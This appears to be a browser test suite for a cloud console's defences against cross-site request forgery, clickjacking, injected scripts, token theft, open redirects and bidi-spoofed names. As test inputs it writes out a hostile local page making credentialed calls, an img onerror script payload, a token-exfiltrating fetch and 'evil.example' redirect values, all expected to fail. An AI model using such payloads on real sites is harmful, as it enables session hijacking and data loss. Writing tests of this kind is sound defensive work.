/** What other sites, and scripts that got into a page, try with the session of somebody signed in. */
import assert from "node:assert/strict";
import { addOwner } from "../../cloud/local/people/people_command.ts";
import { openDataFolder } from "../../cloud/storage/data_folder/data_folder.ts";
import { systemRandom } from "../../cloud/storage/keys/random.ts";
import { systemClock } from "../../shared/base/time/clock.ts";
import { AccountService } from "../../shared/gen/machine/cloud/v1/accounts_pb.ts";
import { type ConsolePage, type ConsoleRig, consoleTest } from "./console_rig.ts";

const EMAIL = "ann@example.com";
const PASSWORD = "correct horse battery";

/** An owner with a password, signed in. */
async function signedInPerson(rig: ConsoleRig): Promise<ConsolePage> {
  const folder = await openDataFolder(rig.dataDir, systemRandom);
  let token: string | undefined;
  try {
    const person = { email: EMAIL, orgId: rig.made.org_id };
    const deps = { clock: systemClock, random: systemRandom };
    token = await addOwner(folder.database.queries, person, deps);
  } finally {
    folder.database.close();
  }
  await rig.client(AccountService).setPassword({ token: token ?? "", password: PASSWORD });
  const opened = await rig.page();
  await opened.go("/");
  await opened.page.getByLabel("E-mail address").fill(EMAIL);
  await opened.page.getByLabel("Password").fill(PASSWORD);
  await opened.page.keyboard.press("Enter");
  await opened.page.getByRole("link", { name: "rover" }).waitFor();
  return opened;
}

/** A site of somebody else; on the cloud's own host name, whose cookies browsers send to all ports. */
function evilSite(body: string) {
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => undefined },
    () =>
      new Response(`<!doctype html><body>${body}</body>`, {
        headers: { "content-type": "text/html" },
      }),
  );
  return {
    url: `http://127.0.0.1:${server.addr.port}/`,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

consoleTest(
  import.meta.url,
  "pages of others cannot call, sign out or frame the cloud of who is signed in",
  async (rig) => {
    const { made, app, cloud } = rig;
    const opened = await signedInPerson(rig);
    await using evil = evilSite(`
      <iframe src="${cloud.url}/organization"></iframe>
      <form id="out" method="post" action="${cloud.url}/account/sign-out" target="hidden"></form>
      <iframe name="hidden"></iframe>`);
    const { context } = opened;
    const page = await context.newPage();
    await page.goto(evil.url);
    const calls = await page.evaluate(`(async () => {
      const url = ${JSON.stringify(cloud.url)} + "/viam.app.v1.AppService/DeleteRobot";
      const body = JSON.stringify({ id: ${JSON.stringify(made.machine_id)} });
      const call = (init) => fetch(url, { method: "POST", credentials: "include", body, ...init })
        .then(({ type, status }) => type + " " + status, () => "refused");
      return [
        await call({ mode: "no-cors" }),
        await call({ headers: { "content-type": "application/json" } }),
        await call({ headers: { "content-type": "application/json", "connect-protocol-version": "1" } }),
        await fetch(${JSON.stringify(cloud.url)} + "/account/session", { credentials: "include" })
          .then((answer) => answer.text(), () => "refused"),
        await fetch(${JSON.stringify(cloud.url)} + "/account/session", {
          method: "DELETE", credentials: "include" }).then(() => "done", () => "refused"),
      ];
    })()`) as string[];
    // Programs of other sites may call with tokens of their own; the cookie counts for none of them.
    assert.deepEqual(calls.slice(1), ["cors 401", "cors 401", "refused", "refused"]);
    await page.evaluate(`document.getElementById("out").submit()`);
    await page.waitForFunction(`window.frames.hidden !== undefined`);
    await page.frame({ name: "hidden" })?.waitForLoadState();
    const framed = page.frames().find((frame) => frame.parentFrame() && frame.name() === "");
    assert.match(framed?.url() ?? "", /^chrome-error:/, "no page of the cloud is shown in a frame");
    assert.equal((await app.getRobot({ id: made.machine_id })).robot?.name, "rover");
    // The session counts still.
    await opened.page.reload();
    await opened.page.getByRole("link", { name: "rover" }).waitFor();
    await opened.page.getByRole("button", { name: "Account" }).click();
    await opened.page.getByText(EMAIL).waitFor();

    // A window that the other page opens gives it no handle to the cloud's page.
    const [popup] = await Promise.all([
      context.waitForEvent("page"),
      page.evaluate(`void (window.other = window.open(${JSON.stringify(cloud.url)}))`),
    ]);
    await popup.waitForLoadState();
    assert.equal(await page.evaluate("window.other.closed"), true);
    assert.equal(await popup.evaluate("window.opener"), null);
    opened.complaints.splice(0);
  },
);

consoleTest(
  import.meta.url,
  "addresses lead nowhere else, and a script in a page finds no token of a person",
  async (rig) => {
    const opened = await signedInPerson(rig);
    const { page } = opened;
    const { origin } = new URL(rig.cloud.url);
    const found = await page.evaluate(`JSON.stringify([
      document.cookie, { ...localStorage }, { ...sessionStorage },
    ])`) as string;
    const cookies = await opened.context.cookies();
    const session = cookies.find(({ name }) => name.startsWith("machine_session"));
    assert.ok(session?.httpOnly && session.sameSite === "Strict");
    assert.ok(!found.includes(session.value) && !found.includes("machine_session"), found);
    // A script that came in has nowhere to send what it finds, and cannot load more.
    const sent = await page.evaluate(`(async () => {
      const script = document.createElement("script");
      script.textContent = "window.hacked = 1";
      document.body.append(script);
      const link = document.createElement("div");
      link.innerHTML = "<img src=x onerror='window.hacked=2'>";
      document.body.append(link);
      return await fetch("http://127.0.0.1:9/?token=x").then(() => "sent", (error) => String(error));
    })()`);
    assert.match(String(sent), /TypeError/);
    assert.equal(await page.evaluate("window.hacked"), undefined);
    assert.notDeepEqual(opened.refusals.splice(0), []);

    await page.goto(`${origin}//evil.example/x`);
    assert.equal(new URL(page.url()).origin, origin);
    for (
      const back of ["//evil.example", "https://evil.example", "/\\evil.example", "javascript:1"]
    ) {
      await opened.context.clearCookies();
      await page.goto(`${origin}/account/sign-in?return_to=${encodeURIComponent(back)}`);
      await page.getByLabel("E-mail address").fill(EMAIL);
      await page.getByLabel("Password").fill(PASSWORD);
      await page.getByRole("button", { name: "Sign in" }).click();
      await page.waitForURL((url) => !url.pathname.startsWith("/account/"));
      assert.equal(new URL(page.url()).origin, origin, back);
    }
    opened.complaints.splice(0);
    // The picture's handler is refused once its request has failed.
    opened.refusals.splice(0);
  },
);

consoleTest(
  import.meta.url,
  "a name with marks of direction does not turn around what follows it in the line",
  async (rig) => {
    const opened = await rig.signedIn("/");
    const { page } = opened;
    await page.getByRole("link", { name: "rover" }).waitFor();
    const names = ["\u202Eterces\u2066", "\u202Eterces\u2067", "\u2069\u202Eterces", "\u202E"];
    const places = await page.evaluate(`${JSON.stringify(names)}.map((name) => {
      const line = document.createElement("p");
      const [before, after] = ["span", "span"].map(() => document.createElement("span"));
      before.className = "anything";
      [before.textContent, after.textContent] = [name, "is in use"];
      line.append(before, " ", after);
      document.querySelector("main").append(line);
      const at = (index) => {
        const range = document.createRange();
        range.setStart(after.firstChild, index);
        range.setEnd(after.firstChild, index + 1);
        return range.getBoundingClientRect().x;
      };
      return at(0) < at(8);
    })`);
    assert.deepEqual(places, names.map(() => true));
  },
);
